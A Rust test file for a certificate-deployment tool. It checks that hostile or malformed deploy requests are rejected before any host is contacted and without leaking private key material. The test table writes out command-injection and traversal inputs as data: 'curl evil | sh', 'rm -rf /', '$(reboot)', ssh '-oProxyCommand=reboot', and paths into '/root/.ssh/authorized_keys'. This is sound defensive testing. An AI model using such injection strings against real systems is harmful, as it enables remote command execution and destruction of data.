//! The trust boundary as a table: hostile or broken requests, each refused
//! with a message naming the field and the problem, and none of them ever
//! reaching a host (a request is checked whole before any host is
//! contacted, and no key byte shows in a refusal).
//!
//! Every case runs through the same tiny pipeline as the worker:
//! `intake::validate_body` → (only if accepted) plan → `Rig::deploy` on an
//! in-memory host that logs every operation.

use certdeploy::config::Config;
use certdeploy::intake::{Rejection, validate_body};
use certdeploy_core::testkit::{OpKind, Rig, Sim};
use certdeploy_core::{Outcome, Terminal};
use certdeploy_testbed::WEB1_CONFIG;
use certdeploy_testbed::certs::{Bundle, TestCa, request};
use serde_json::{Value, json};

fn config(inline: bool) -> Config {
    let extra = if inline {
        "allow_inline_targets = true\ninline_host_allowlist = [\"*.internal\"]\n\
         inline_command_allowlist = [\"systemctl reload nginx\", \"nginx -t\"]\n\
         inline_path_allowlist = [\"/etc/ssl/*\"]\n"
    } else {
        ""
    };
    let text = WEB1_CONFIG.replace("[worker]\n", &format!("[worker]\n{extra}"));
    Config::parse(&text, "trust.toml", &[]).expect("test config")
}

/// validate → plan → deploy on a fresh in-memory host. Returns the
/// decision and every host/journal operation that happened.
fn pipeline(body: &[u8], cfg: &Config) -> (Result<Outcome, Rejection>, Vec<OpKind>) {
    let sim = Sim::new();
    let rig = Rig::new(sim.clone());
    let decision = match validate_body(body, cfg, certdeploy::clock::now()) {
        Ok(v) => {
            let (plan, payload) = v.plan(1).expect("plan of a validated request");
            match rig.deploy(plan, &payload).expect("no crash") {
                Terminal::Finished(r) => Ok(r.outcome),
                Terminal::Abandoned(why) => panic!("abandoned: {why}"),
            }
        }
        Err(r) => Err(r),
    };
    let ops = sim.world().op_log.clone();
    (decision, ops)
}

fn body(v: &Value) -> Vec<u8> {
    serde_json::to_vec(v).expect("json")
}

fn valid(b: &Bundle) -> Value {
    serde_json::from_slice(&request("trust-1", "web1", b, true)).expect("json")
}

fn inline_spec() -> Value {
    json!({
        "host": "web9.internal",
        "port": 22,
        "user": "deploy",
        "cert_path": "/etc/ssl/inline.pem",
        "key_path": "/etc/ssl/inline.key",
        "chain_path": "/etc/ssl/inline-chain.pem",
        "reload_command": "systemctl reload nginx",
        "validate_command": "nginx -t"
    })
}

fn inline(b: &Bundle) -> Value {
    let mut v = valid(b);
    v.as_object_mut().unwrap().remove("target");
    v["target_spec"] = inline_spec();
    v
}

fn with(mut v: Value, key: &str, value: Value) -> Value {
    v[key] = value;
    v
}

fn with_spec(b: &Bundle, key: &str, value: Value) -> Value {
    let mut v = inline(b);
    v["target_spec"][key] = value;
    v
}

fn without(mut v: Value, key: &str) -> Value {
    v.as_object_mut().unwrap().remove(key);
    v
}

/// Replace the first occurrence of `from` in the raw JSON text.
fn raw_replace(v: &Value, from: &str, to: &str) -> Vec<u8> {
    let text = serde_json::to_string(v).unwrap();
    assert!(text.contains(from), "{from} not in body");
    text.replacen(from, to, 1).into_bytes()
}

struct Case {
    name: &'static str,
    body: Vec<u8>,
    inline_enabled: bool,
    field: &'static str,
    problem: &'static str,
}

fn case(name: &'static str, body: Vec<u8>, field: &'static str, problem: &'static str) -> Case {
    Case { name, body, inline_enabled: false, field, problem }
}

fn inline_case(name: &'static str, body: Vec<u8>, field: &'static str, problem: &'static str) -> Case {
    Case { name, body, inline_enabled: true, field, problem }
}

/// 24-character slices of the key's base64, for "never echoed" checks.
/// Slices that also occur in the public certificate or chain (algorithm
/// identifiers; PKCS#8 embeds the public key) are not secret and skipped.
fn key_slices(b: &Bundle) -> Vec<String> {
    let b64: String = b.key_pem.lines().filter(|l| !l.starts_with("-----")).collect();
    let public: String = format!("{}{}", b.cert_pem, b.chain_pem).lines().collect();
    let chars: Vec<char> = b64.chars().collect();
    let slices: Vec<String> = chars.windows(24).map(|w| w.iter().collect::<String>()).collect();
    let secret: Vec<String> = slices.into_iter().filter(|s| !public.contains(s.as_str())).collect();
    assert!(secret.len() > 20, "key has secret slices");
    secret
}

fn cases(ca: &TestCa, b: &Bundle) -> Vec<Case> {
    let other = ca.leaf("other.example", 1);
    let expired = ca.expired_leaf("web1.example", 2);
    let future = ca.future_leaf("web1.example", 3);
    let v = valid(b);
    let cert = b.cert_pem.clone();
    let key = b.key_pem.clone();
    let truncated_cert = cert[..cert.len() / 2].to_string();
    let truncated_key = key[..key.len() / 2].to_string();
    let huge = |n: usize| with(v.clone(), "chain_pem", Value::String("A".repeat(n))).to_string().into_bytes();
    let deep = |n: usize| format!("{}{}", "[".repeat(n), "]".repeat(n)).into_bytes();
    let nested_target = {
        let t = serde_json::to_string(&v).unwrap();
        let deep_s = String::from_utf8(deep(1000)).unwrap();
        t.replacen("\"target\":\"web1\"", &format!("\"target\":{deep_s}"), 1).into_bytes()
    };
    let mut corrupted = cert.clone();
    let mid = corrupted.len() / 2;
    corrupted.replace_range(mid..mid + 1, "*");
    let mut non_utf8 = body(&v);
    let at = non_utf8.len() / 2;
    non_utf8[at] = 0xff;
    let arr = json!(["certdeploy.deploy-request.v1", "arr-1", "web1", null, cert, key, null, null]);

    vec![
        // --- the material (pki) ---
        case(
            "key of another certificate",
            body(&valid(&b.with_key_of(&other))),
            "private_key_pem",
            "does not match the certificate's public key",
        ),
        case("expired certificate", body(&valid(&expired)), "certificate_pem", "expired at"),
        case("not yet valid certificate", body(&valid(&future)), "certificate_pem", "not valid before"),
        case(
            "chain in reverse order",
            body(&with(v.clone(), "chain_pem", json!(b.reversed_chain()))),
            "chain_pem",
            "not in issuing order",
        ),
        case(
            "truncated certificate PEM",
            body(&with(v.clone(), "certificate_pem", json!(truncated_cert))),
            "certificate_pem",
            "truncated PEM",
        ),
        case(
            "truncated key PEM",
            body(&with(v.clone(), "private_key_pem", json!(truncated_key))),
            "private_key_pem",
            "truncated PEM",
        ),
        case(
            "certificate PEM with trailing garbage",
            body(&with(v.clone(), "certificate_pem", json!(format!("{cert}garbage; rm -rf /\n")))),
            "certificate_pem",
            "unexpected text after the END CERTIFICATE line",
        ),
        case(
            "key PEM with trailing garbage",
            body(&with(v.clone(), "private_key_pem", json!(format!("{key}\n$(reboot)\n")))),
            "private_key_pem",
            "unexpected text after the END PRIVATE KEY line",
        ),
        case(
            "corrupted base64 in certificate",
            body(&with(v.clone(), "certificate_pem", json!(corrupted))),
            "certificate_pem",
            "not valid base64",
        ),
        case("empty certificate", body(&with(v.clone(), "certificate_pem", json!(""))), "certificate_pem", "is empty"),
        case(
            "private key in certificate_pem",
            body(&with(v.clone(), "certificate_pem", json!(key.clone()))),
            "certificate_pem",
            "expected CERTIFICATE (the private key belongs in private_key_pem)",
        ),
        case(
            "leaf and chain in certificate_pem",
            body(&with(v.clone(), "certificate_pem", json!(format!("{cert}{}", b.chain_pem)))),
            "certificate_pem",
            "exactly one is expected",
        ),
        case(
            "private key in chain_pem",
            body(&with(v.clone(), "chain_pem", json!(key.clone()))),
            "chain_pem",
            "expected CERTIFICATE",
        ),
        // --- size, encoding, JSON ---
        case("10 MiB body", huge(10 * 1024 * 1024), "body", "exceeds the limit of 1048576 bytes"),
        case("2 MiB body", huge(2 * 1024 * 1024), "body", "exceeds the limit of 1048576 bytes"),
        case("non-UTF-8 body", non_utf8, "body", "not valid UTF-8"),
        case("empty body", Vec::new(), "body", "not valid JSON"),
        case("not JSON", b"deploy web1 please".to_vec(), "body", "not valid JSON"),
        case("JSON array instead of object", body(&arr), "body", "must be a JSON object, found an array"),
        case("JSON null", b"null".to_vec(), "body", "must be a JSON object, found null"),
        case("deeply nested JSON", deep(100_000), "body", "nested too deeply"),
        case("deeply nested value", nested_target, "body", "nested too deeply"),
        case(
            "duplicate key (target)",
            raw_replace(&v, "\"target\":\"web1\"", "\"target\":\"web1\",\"target\":\"web2\""),
            "target",
            "duplicate field",
        ),
        case(
            "duplicate key (private_key_pem)",
            raw_replace(&v, "\"schema\":", "\"private_key_pem\":\"x\",\"schema\":"),
            "private_key_pem",
            "duplicate field",
        ),
        case("unknown field", body(&with(v.clone(), "command", json!("reboot"))), "command", "unknown field"),
        case("missing schema", body(&without(v.clone(), "schema")), "schema", "missing required field"),
        case(
            "missing certificate",
            body(&without(v.clone(), "certificate_pem")),
            "certificate_pem",
            "missing required field",
        ),
        case("missing key", body(&without(v.clone(), "private_key_pem")), "private_key_pem", "missing required field"),
        case(
            "wrong type: deployment_id",
            body(&with(v.clone(), "deployment_id", json!(42))),
            "deployment_id",
            "must be a string, found a number",
        ),
        case(
            "wrong type: private_key_pem",
            body(&with(v.clone(), "private_key_pem", json!({"pem": key}))),
            "private_key_pem",
            "must be a string, found an object",
        ),
        case(
            "wrong type: chain_pem",
            body(&with(v.clone(), "chain_pem", json!(["a", "b"]))),
            "chain_pem",
            "must be a string, found an array",
        ),
        case(
            "unknown schema version",
            body(&with(v.clone(), "schema", json!("certdeploy.deploy-request.v2"))),
            "schema",
            "unknown schema version `certdeploy.deploy-request.v2`",
        ),
        case(
            "deployment_id too long",
            body(&with(v.clone(), "deployment_id", json!("a".repeat(129)))),
            "deployment_id",
            "must be 1-128 characters of [A-Za-z0-9._:-]",
        ),
        case(
            "deployment_id with a slash",
            body(&with(v.clone(), "deployment_id", json!("../../etc/passwd"))),
            "deployment_id",
            "must be 1-128 characters of [A-Za-z0-9._:-]",
        ),
        case(
            "deployment_id with a newline",
            body(&with(v.clone(), "deployment_id", json!("id\n-rf"))),
            "deployment_id",
            "must be 1-128 characters of [A-Za-z0-9._:-]",
        ),
        case(
            "empty deployment_id",
            body(&with(v.clone(), "deployment_id", json!(""))),
            "deployment_id",
            "must be 1-128 characters of [A-Za-z0-9._:-]",
        ),
        // --- targets ---
        case("unknown target", body(&with(v.clone(), "target", json!("db7"))), "target", "unknown target `db7`"),
        case(
            "target with shell characters",
            body(&with(v.clone(), "target", json!("web1; reboot"))),
            "target",
            "must be 1-128 characters of [A-Za-z0-9._:-]",
        ),
        case(
            "no target at all",
            body(&without(v.clone(), "target")),
            "target",
            "missing (or give `target_spec` or `group`)",
        ),
        case(
            "both target and target_spec",
            body(&with(v.clone(), "target_spec", inline_spec())),
            "target",
            "give either `target` or `target_spec`, not both",
        ),
        case("inline target, inline disabled", body(&inline(b)), "target_spec", "inline targets are disabled"),
        inline_case(
            "inline: `..` in path",
            body(&with_spec(b, "cert_path", json!("/etc/ssl/../../root/.ssh/authorized_keys"))),
            "target_spec.cert_path",
            "is not normalized (contains `..`)",
        ),
        inline_case(
            "inline: relative path",
            body(&with_spec(b, "key_path", json!("site.key"))),
            "target_spec.key_path",
            "must be an absolute path",
        ),
        inline_case(
            "inline: NUL in path",
            body(&with_spec(b, "cert_path", json!("/etc/ssl/site.pem\u{0}.txt"))),
            "target_spec.cert_path",
            "contains a control character",
        ),
        inline_case(
            "inline: newline in path",
            body(&with_spec(b, "chain_path", json!("/etc/ssl/chain.pem\n/etc/passwd"))),
            "target_spec.chain_path",
            "contains a control character",
        ),
        inline_case(
            "inline: key path outside inline_path_allowlist",
            body(&with_spec(b, "key_path", json!("/home/deploy/.ssh/authorized_keys"))),
            "target_spec.key_path",
            "`/home/deploy/.ssh/authorized_keys` is not in inline_path_allowlist",
        ),
        inline_case(
            "inline: path allowlist is case-sensitive",
            body(&with_spec(b, "cert_path", json!("/ETC/SSL/inline.pem"))),
            "target_spec.cert_path",
            "is not in inline_path_allowlist",
        ),
        inline_case(
            "inline: `;` in reload command",
            body(&with_spec(b, "reload_command", json!("systemctl reload nginx; curl evil | sh"))),
            "target_spec.reload_command",
            "is not in inline_command_allowlist",
        ),
        inline_case(
            "inline: `$()` in validate command",
            body(&with_spec(b, "validate_command", json!("nginx -t $(id)"))),
            "target_spec.validate_command",
            "is not in inline_command_allowlist",
        ),
        inline_case(
            "inline: backticks in reload command",
            body(&with_spec(b, "reload_command", json!("systemctl reload `whoami`"))),
            "target_spec.reload_command",
            "is not in inline_command_allowlist",
        ),
        inline_case(
            "inline: newline in reload command",
            body(&with_spec(b, "reload_command", json!("systemctl reload nginx\nreboot"))),
            "target_spec.reload_command",
            "is not in inline_command_allowlist",
        ),
        inline_case(
            "inline: host not allowlisted",
            body(&with_spec(b, "host", json!("db1.prod.example.com"))),
            "target_spec.host",
            "`db1.prod.example.com` is not in inline_host_allowlist",
        ),
        inline_case(
            "inline: allowlist suffix trick",
            body(&with_spec(b, "host", json!("web1.internal.evil.com"))),
            "target_spec.host",
            "is not in inline_host_allowlist",
        ),
        inline_case(
            "inline: ssh option as host",
            body(&with_spec(b, "host", json!("-oProxyCommand=reboot"))),
            "target_spec.host",
            "must not start with `-`",
        ),
        inline_case(
            "inline: ssh option as user",
            body(&with_spec(b, "user", json!("-oProxyCommand=reboot"))),
            "target_spec.user",
            "must be a plain user name",
        ),
        inline_case(
            "inline: verify endpoint elsewhere",
            body(&with_spec(b, "verify_endpoint", json!("metadata.google:80"))),
            "target_spec.verify_endpoint",
            "is not in inline_host_allowlist",
        ),
        inline_case(
            "inline: world-readable key",
            body(&with_spec(b, "key_mode", json!("0644"))),
            "target_spec.key_mode",
            "gives other users access to the private key",
        ),
        inline_case(
            "inline: bad mode",
            body(&with_spec(b, "cert_mode", json!("rwxrwxrwx"))),
            "target_spec.cert_mode",
            "is not an octal mode",
        ),
        inline_case(
            "inline: port as string",
            body(&with_spec(b, "port", json!("22"))),
            "target_spec.port",
            "must be an integer from 0 to 65535, found a string",
        ),
        inline_case(
            "inline: port out of range",
            body(&with_spec(b, "port", json!(70000))),
            "target_spec.port",
            "must be an integer from 0 to 65535",
        ),
        inline_case(
            "inline: port 0",
            body(&with_spec(b, "port", json!(0))),
            "target_spec.port",
            "must be from 1 to 65535",
        ),
        inline_case(
            "inline: unknown field",
            body(&with_spec(b, "ProxyCommand", json!("reboot"))),
            "target_spec.ProxyCommand",
            "unknown field",
        ),
        inline_case(
            "inline: missing reload command",
            body(&{
                let mut x = inline(b);
                x["target_spec"].as_object_mut().unwrap().remove("reload_command");
                x
            }),
            "target_spec.reload_command",
            "missing required field",
        ),
        inline_case(
            "inline: target_spec as array",
            body(&{
                let mut x = inline(b);
                // serde would accept a struct as the array of its fields.
                x["target_spec"] = json!([
                    "web9.internal",
                    22,
                    "deploy",
                    "/etc/ssl/a.pem",
                    "/etc/ssl/a.key",
                    null,
                    "0644",
                    "0600",
                    null,
                    "systemctl reload nginx",
                    null,
                    null
                ]);
                x
            }),
            "target_spec",
            "must be an object",
        ),
        inline_case(
            "inline: key_path equal to cert_path",
            body(&with_spec(b, "key_path", json!("/etc/ssl/inline.pem"))),
            "target_spec.key_path",
            "`/etc/ssl/inline.pem` is also this target's cert_path",
        ),
        inline_case(
            "inline: chain_path equal to key_path",
            body(&with_spec(b, "chain_path", json!("/etc/ssl/inline.key"))),
            "target_spec.chain_path",
            "is also this target's key_path",
        ),
        inline_case(
            "inline: a configured target's file on the same host",
            body(&{
                let mut x = with_spec(b, "host", json!("WEB1.internal"));
                x["target_spec"]["chain_path"] = json!("/etc/ssl/site.key");
                x
            }),
            "target_spec.chain_path",
            "`/etc/ssl/site.key` is also configured target web1's key_path on the same host",
        ),
        inline_case(
            "inline: certdeploy's backup name",
            body(&with_spec(b, "cert_path", json!("/etc/ssl/site.pem.certdeploy-bak.renew-1"))),
            "target_spec.cert_path",
            "uses certdeploy's own names",
        ),
        inline_case(
            "inline: certdeploy's lock name",
            body(&with_spec(b, "key_path", json!("/etc/ssl/site.pem.certdeploy-lock"))),
            "target_spec.key_path",
            "uses certdeploy's own names",
        ),
        inline_case(
            "inline: certdeploy's temp name",
            body(&with_spec(b, "chain_path", json!("/etc/ssl/chain.pem.certdeploy-tmp.x"))),
            "target_spec.chain_path",
            "uses certdeploy's own names",
        ),
        inline_case(
            "inline: bad SNI",
            body(&with_spec(b, "verify_sni", json!("www.example.com\r\nX: y"))),
            "target_spec.verify_sni",
            "is not a host name",
        ),
    ]
}

#[test]
fn hostile_requests_are_rejected_naming_field_and_problem_without_host_contact() {
    let ca = TestCa::new();
    let b = ca.leaf("web1.example", 1);
    let (plain, with_inline) = (config(false), config(true));

    // Controls: the same pipeline deploys valid requests (so "no host
    // operation" below is a property of the rejection, not of the rig).
    for (name, req, cfg) in [("configured", valid(&b), &plain), ("inline", inline(&b), &with_inline)] {
        let (decision, ops) = pipeline(&body(&req), cfg);
        assert_eq!(decision.map_err(|r| r.error.to_string()), Ok(Outcome::Deployed), "control {name}");
        assert!(ops.iter().any(|o| matches!(o, OpKind::Write(_))), "control {name} wrote: {ops:?}");
    }

    let cases = cases(&ca, &b);
    assert!(cases.len() >= 30, "{} cases", cases.len());
    let secret_slices = key_slices(&b);
    let mut failures = Vec::new();
    for c in &cases {
        let cfg = if c.inline_enabled { &with_inline } else { &plain };
        let (decision, ops) = pipeline(&c.body, cfg);
        let err = match decision {
            Ok(outcome) => {
                failures.push(format!("{}: accepted ({outcome})", c.name));
                continue;
            }
            Err(r) => r.error,
        };
        if !ops.is_empty() {
            failures.push(format!("{}: host operations after rejection: {ops:?}", c.name));
        }
        let text = err.to_string();
        if err.field != c.field || !err.problem.contains(c.problem) {
            failures.push(format!(
                "{}: got `{text}`, want field `{}` and problem containing `{}`",
                c.name, c.field, c.problem
            ));
        }
        if text.len() > 2048 {
            failures.push(format!("{}: message of {} bytes", c.name, text.len()));
        }
        if let Some(s) = secret_slices.iter().find(|s| text.contains(s.as_str())) {
            failures.push(format!("{}: message echoes key material `{s}`", c.name));
        }
    }
    assert!(failures.is_empty(), "{} of {} cases wrong:\n{}", failures.len(), cases.len(), failures.join("\n"));
}

#[test]
fn rejection_salvages_only_valid_ids() {
    let ca = TestCa::new();
    let b = ca.leaf("web1.example", 1);
    let cfg = config(false);
    // A request that decodes but fails later keeps its id and target.
    let r = validate_body(&request("keep-me", "db7", &b, false), &cfg, certdeploy::clock::now()).unwrap_err();
    assert_eq!((r.deployment_id.as_deref(), r.target.as_deref()), (Some("keep-me"), Some("db7")));
    // A hostile id is never echoed into the result.
    let v = with(valid(&b), "deployment_id", json!("x\n{\"outcome\":\"deployed\"}"));
    let r = validate_body(&body(&v), &cfg, certdeploy::clock::now()).unwrap_err();
    assert_eq!(r.deployment_id, None);
}

#[test]
fn debug_of_a_request_and_its_errors_never_show_the_key() {
    let ca = TestCa::new();
    let b = ca.leaf("web1.example", 1);
    let req = certdeploy_core::wire::decode_request(&request("dbg-1", "web1", &b, true)).expect("decodes");
    let shown = format!("{req:?} {:?}", req.private_key_pem);
    assert!(shown.contains("[redacted]"), "{shown}");
    let cfg = config(true);
    let v = certdeploy::intake::validate_request(req, &cfg, certdeploy::clock::now()).expect("valid");
    let (plan, payload) = v.plan(1).expect("plan");
    let shown = format!("{shown} {v:?} {plan:?} {payload:?}");
    for s in key_slices(&b) {
        assert!(!shown.contains(&s), "Debug output holds key material `{s}`");
    }
    assert!(!shown.contains("PRIVATE KEY-----"), "{shown}");
}
